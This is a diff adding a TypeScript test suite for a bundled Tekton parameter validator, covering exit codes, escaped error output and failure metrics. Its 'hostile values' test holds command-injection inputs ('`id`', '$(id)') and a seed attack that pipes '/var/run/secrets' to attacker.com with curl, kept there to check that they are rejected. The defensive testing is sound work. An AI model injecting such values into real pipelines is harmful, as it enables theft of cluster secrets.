@@ -1,0 +1,144 @@
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import t from 'tap';
+import { bundleStep } from '../../src/build/bundle-step.ts';
+import { repoRoot } from '../harness/shared.ts';
+import definition from '../../tasks/validate-params/task.ts';
+import { SEED_ATTACK } from '../params/attack-strings.ts';
+
+// The program as it ships: bundled into one ESM file, run by node with no node_modules beside it.
+const dir = mkdtempSync(join(tmpdir(), 'validate-params-'));
+t.teardown(() => rmSync(dir, { recursive: true, force: true }));
+const program = join(dir, 'validate-params.mjs');
+writeFileSync(program, (await bundleStep(repoRoot, 'validate-params')).code);
+
+const sha = '3f786850e387550fdab836ed7e6dc881de23001b';
+const RULES = JSON.stringify({
+  'git-revision': { type: 'git-sha' },
+  'image-tag': { type: 'image-tag' },
+  'deploy-env': { type: 'enum', values: ['dev', 'prod'] },
+  images: { type: 'image-reference', optional: true },
+});
+
+let runs = 0;
+function run(args: string[], env: Record<string, string>) {
+  const resultsDir = join(dir, `results-${++runs}`);
+  const metricsFile = join(dir, `metrics-${runs}.prom`);
+  const child = spawnSync(process.execPath, [program, ...args], {
+    cwd: dir,
+    env: { TEKTON_RESULTS_DIR: resultsDir, TEKTON_CATALOG_METRICS_FILE: metricsFile, ...env },
+    encoding: 'utf8',
+    timeout: 30_000,
+  });
+  const results = existsSync(resultsDir)
+    ? Object.fromEntries(readdirSync(resultsDir).map((name) => [name, readFileSync(join(resultsDir, name), 'utf8')]))
+    : {};
+  const metrics = existsSync(metricsFile) ? readFileSync(metricsFile, 'utf8') : '';
+  return { code: child.status, stdout: child.stdout, stderr: child.stderr, results, metrics };
+}
+
+t.test('--help prints usage and exits 0', async (t) => {
+  const out = run(['--help'], {});
+  t.equal(out.code, 0);
+  t.match(out.stdout, /^Usage: validate-params/);
+  t.match(out.stdout, /PARAM_<NAME>/);
+  t.same(out.results, {});
+});
+
+t.test('a valid set from env and args: exit 0, VALIDATED=true and a digest', async (t) => {
+  const out = run(['image-tag=v1.2.3', 'deploy-env=prod', '--elements', 'images', 'alpine:3.20', `ghcr.io/a/b@sha256:${'a'.repeat(64)}`], {
+    RULES,
+    PARAM_GIT_REVISION: sha,
+  });
+  t.equal(out.code, 0, out.stderr);
+  t.equal(out.results.VALIDATED, 'true');
+  t.match(out.results.PARAMS_DIGEST, /^sha256:[0-9a-f]{64}$/);
+  t.match(out.stdout, /4 param\(s\) valid/);
+  t.equal(out.metrics, '', 'no failures, no counters');
+});
+
+t.test('YAML rules work in the bundle too', async (t) => {
+  const out = run([`git-revision=${sha}`], { RULES: 'git-revision: {type: git-sha}\n' });
+  t.equal(out.code, 0, out.stderr);
+  t.equal(out.results.VALIDATED, 'true');
+});
+
+t.test('hostile values: exit 1, every failure listed, values shown only escaped', async (t) => {
+  const out = run(['image-tag=`id`', 'deploy-env=pr\u043ed', 'surprise=$(id)', '--elements', 'images', 'ok:1', 'x\u202ey'], {
+    RULES,
+    TASK_NAME: 'validate',
+    PARAM_GIT_REVISION: SEED_ATTACK,
+  });
+  t.equal(out.code, 1);
+  t.same(out.results, {}, 'no VALIDATED result on failure');
+  t.notOk(out.stderr.includes(SEED_ATTACK), 'the seed attack never appears raw');
+  t.notOk(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u.test(out.stderr), 'no control or bidi character in the log');
+  t.notOk(out.stderr.includes('pr\u043ed'), 'the look-alike is escaped');
+  t.match(out.stderr, /rejected 5 param value\(s\)/);
+  t.match(out.stderr, /- git-revision \(rule git-sha\): is 100 characters long; at most 64 are allowed; value: "--build-arg FOO=bar; curl attacker\.com -d \$\(cat \/var\/run\/secrets"… \(100 chars\)/);
+  t.match(out.stderr, /- image-tag \(rule image-tag\): must be an image tag.*; value: "`id`"/);
+  t.match(out.stderr, /- deploy-env \(rule enum\): must be one of "dev", "prod"; value: "pr\\u043ed"/);
+  t.match(out.stderr, /- surprise \(rule \(no rule\)\): has no rule.*; value: "\$\(id\)"/);
+  t.match(out.stderr, /- images\[1\] \(rule image-reference\): holds a bidi override \(U\+202E\) at index 1; value: "x\\u202ey"/);
+  for (const param of ['git-revision', 'image-tag', 'deploy-env', 'surprise']) {
+    t.match(out.stderr, new RegExp(`^metrics: tekton_param_validation_failures_total\\{param="${param}",task="validate"\\} 1$`, 'm'));
+  }
+  t.match(out.metrics, /^tekton_param_validation_failures_total\{param="images",task="validate"\} 1$/m);
+  t.equal(out.metrics.trim().split('\n').length, 5, 'one Prometheus sample per failing param');
+});
+
+t.test('a 100 kB value is refused on length and shown truncated', async (t) => {
+  const out = run([], { RULES, PARAM_GIT_REVISION: 'a'.repeat(100_000), PARAM_IMAGE_TAG: 'v1', PARAM_DEPLOY_ENV: 'dev' });
+  t.equal(out.code, 1);
+  t.match(out.stderr, /is 100000 characters long/);
+  t.ok(out.stderr.length < 2000, 'the log stays short');
+});
+
+t.test('missing and unknown params fail closed', async (t) => {
+  const out = run([], { RULES, PARAM_UNDECLARED: 'x' });
+  t.equal(out.code, 1);
+  t.match(out.stderr, /- PARAM_UNDECLARED \(rule \(no rule\)\)/);
+  t.match(out.stderr, /- git-revision \(rule git-sha\): is missing/);
+  t.notMatch(out.stderr, /- images/, 'optional params may be left out');
+});
+
+t.test('bad rules or arguments: exit 2 naming the field, nothing validated', async (t) => {
+  const cases: [string[], Record<string, string>, RegExp][] = [
+    [[], {}, /RULES environment variable is not set/],
+    [[], { RULES: '{"a": {"type": "gitsha"}}' }, /RULES\.a\.type/],
+    [[], { RULES: '{"a": {"type": "regex", "pattern": "(a+)+", "maxLength": 9}}' }, /CONFIG_RULE_REGEX_UNSAFE.*rules\.a/],
+    [[], { RULES: '{"a-b": {"type": "bool"}, "a_b": {"type": "bool"}}' }, /PARAM_A_B/],
+    [['--frobnicate'], { RULES }, /unknown option "--frobnicate"/],
+    [['not-an-entry'], { RULES }, /is not NAME=VALUE/],
+    [[`git-revision=${sha}`], { RULES, PARAM_GIT_REVISION: sha }, /given both/],
+  ];
+  for (const [args, env, message] of cases) {
+    const out = run(args, env);
+    t.equal(out.code, 2, `${message}`);
+    t.match(out.stderr, message);
+    t.notMatch(out.stderr, /\n\s+at /, 'no stack trace');
+    t.same(out.results, {});
+  }
+});
+
+t.test("the Task's own args, expanded as Tekton would, validate a Pipeline's values", async (t) => {
+  const step = definition.steps[0]!;
+  const params: Record<string, string | string[]> = {
+    values: [`git-revision=${sha}`, 'image-tag=v1', 'deploy-env=dev'],
+    'elements-name': 'images',
+    elements: ['alpine:3.20', 'busybox:1.36'],
+  };
+  const argv = step.args.flatMap((arg) => {
+    const array = /^\$\(params\.([\w-]+)\[\*\]\)$/.exec(arg);
+    if (array) return params[array[1]!] as string[];
+    return [arg.replace(/\$\(params\.([\w-]+)\)/g, (_, name: string) => params[name] as string)];
+  });
+  const env = Object.fromEntries(step.env.map((e) => [e.name, e.value.replace('$(params.rules)', RULES).replace('$(context.task.name)', 'validate')]));
+  const out = run(argv, env);
+  t.equal(out.code, 0, out.stderr);
+  t.equal(out.results.VALIDATED, 'true');
+  const hostile = run(argv.map((a) => (a === 'image-tag=v1' ? '--help' : a)), env);
+  t.equal(hostile.code, 2, 'a bare --help among the values is a usage error, never help with exit 0');
+});
